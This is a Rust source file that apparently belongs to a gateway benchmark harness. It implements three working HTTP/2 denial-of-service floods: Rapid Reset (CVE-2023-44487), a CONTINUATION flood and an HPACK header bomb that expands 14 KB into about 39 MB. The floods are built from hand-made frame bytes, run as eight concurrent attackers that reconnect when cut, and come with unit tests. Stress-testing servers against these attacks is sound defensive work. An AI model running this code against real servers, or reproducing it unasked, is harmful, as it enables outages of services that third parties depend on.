//! Attacks over HTTP/2 with exact bytes, at a bounded rate, that connect again when they are cut.

use std::cell::Cell;
use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// Attackers at once.
pub(crate) const ATTACKERS: u32 = 8;

/// Between two bursts of one of them: the flood should take the gateway's time, not that of the load generator.
const PAUSE: Duration = Duration::from_millis(5);

/// Before it connects again.
const AGAIN: Duration = Duration::from_millis(100);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Which attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Flood {
    /// A request and its reset, a hundred at a time (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316 and its kin).
    Continuation,
    /// A head of 14 KB that unfolds to 39 MB: ten thousand references to one large field.
    HeaderBomb,
}

/// A running attack, until dropped.
#[derive(Debug)]
pub(crate) struct Attack {
    tally: Rc<Tally>,
    _attackers: JoinSet<()>,
}

/// What came of it.
#[derive(Debug, Default)]
pub(crate) struct Tally {
    /// Bytes that were taken.
    pub(crate) bytes: Cell<u64>,
    /// Connections that were closed.
    pub(crate) cut: Cell<u64>,
}

impl Flood {
    pub(crate) const ALL: [Self; 3] = [Self::RapidReset, Self::Continuation, Self::HeaderBomb];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION flood",
            Self::HeaderBomb => "header bomb",
        }
    }

    /// At `address`, asking for `path` where it asks.
    pub(crate) fn start(self, address: SocketAddr, path: &str) -> Attack {
        let tally = Rc::<Tally>::default();
        let mut attackers = JoinSet::new();
        for _ in 0..ATTACKERS {
            let (tally, head) = (tally.clone(), head(path));
            attackers.spawn_local(async move {
                loop {
                    // Refused or reset: both are ends.
                    let _ = self.attack(address, &head, &tally).await;
                    tally.cut.set(tally.cut.get() + 1);
                    sleep(AGAIN).await;
                }
            });
        }
        Attack { tally, _attackers: attackers }
    }

    /// One connection, until it is closed.
    async fn attack(self, address: SocketAddr, head: &[u8], tally: &Tally) -> std::io::Result<()> {
        let mut stream = TcpStream::connect(address).await?;
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        stream.write_all(&[frame(SETTINGS, 0, 0, &[]), frame(SETTINGS, 1, 0, &[])].concat()).await?;
        let (mut sink, mut stream_id, mut bytes) = (vec![0; 16 * 1024], 1, Vec::new());
        loop {
            bytes.clear();
            self.burst(&mut bytes, &mut stream_id, head);
            stream.write_all(&bytes).await?;
            tally.bytes.set(tally.bytes.get() + u64::try_from(bytes.len()).unwrap_or(0));
            if let Ok(read) = timeout(PAUSE, stream.read(&mut sink)).await
                && read? == 0
            {
                return Ok(());
            }
        }
    }

    fn burst(self, to: &mut Vec<u8>, stream_id: &mut u32, head: &[u8]) {
        match self {
            Self::RapidReset => {
                for _ in 0..100 {
                    to.extend(frame(HEADERS, END_STREAM | END_HEADERS, *stream_id, head));
                    to.extend(frame(RST_STREAM, 0, *stream_id, &8_u32.to_be_bytes()));
                    *stream_id += 2;
                }
            }
            Self::Continuation => {
                if *stream_id == 1 {
                    to.extend(frame(HEADERS, END_STREAM, 1, head));
                    *stream_id = 3;
                }
                let field = [&[0, 1, b'x', 100][..], &[b'a'; 100]].concat();
                for _ in 0..16 {
                    to.extend(frame(CONTINUATION, 0, 1, &field.repeat(10)));
                }
            }
            Self::HeaderBomb => {
                // Into the dynamic table (a literal with a length of 3900), then by its index, 62, again and again.
                let large = [&[0x40, 1, b'x', 0x7f, 0xbd, 0x1d][..], &[b'a'; 3900]].concat();
                let block = [head, &large, &[0xbe; 10_000]].concat();
                to.extend(frame(HEADERS, END_STREAM | END_HEADERS, *stream_id, &block));
                *stream_id += 2;
            }
        }
    }
}

impl Attack {
    /// Ends it.
    pub(crate) fn stop(self) -> Rc<Tally> {
        self.tally.clone()
    }
}

/// GET `path` of an http URL, without Huffman's code.
fn head(path: &str) -> Vec<u8> {
    let text = |index: u8, text: &str| {
        [&[index, u8::try_from(text.len()).unwrap_or(0)][..], text.as_bytes()].concat()
    };
    [&[0x82, 0x86][..], &text(0x04, path), &text(0x01, "bench")].concat()
}

fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream_id.to_be_bytes());
    frame.extend(payload);
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_a_length_a_kind_flags_and_a_stream() {
        assert_eq!(frame(RST_STREAM, 0, 3, &[0, 0, 0, 8]), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }

    #[test]
    fn no_frame_is_longer_than_every_peer_takes() {
        for flood in Flood::ALL {
            let (mut bytes, mut id) = (Vec::new(), 1);
            flood.burst(&mut bytes, &mut id, &head("/x"));
            let mut rest = &bytes[..];
            while let [a, b, c, ..] = rest {
                let length = usize::from(*a) << 16 | usize::from(*b) << 8 | usize::from(*c);
                assert!(length <= 16_384, "{flood:?}: {length}");
                rest = &rest[9 + length..];
            }
            assert!(rest.is_empty());
        }
    }
}
